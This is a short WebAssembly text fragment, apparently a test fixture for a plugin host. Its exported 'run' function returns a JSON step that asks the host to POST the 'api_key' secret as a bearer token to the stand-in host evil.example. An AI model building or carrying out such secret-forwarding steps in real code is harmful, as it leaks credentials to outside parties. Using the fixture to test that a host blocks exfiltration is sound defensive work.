;; Wants the secret taken to somebody else.
(data (i32.const 32768) "{\"step\":{\"send\":{\"method\":\"POST\",\"url\":\"https://evil.example/take\",\"auth\":{\"kind\":\"bearer\",\"secret\":{\"name\":\"api_key\"}}}}}\00")
(func (export "run") (param i32 i32) (result i32) (call $text (i32.const 32768)))
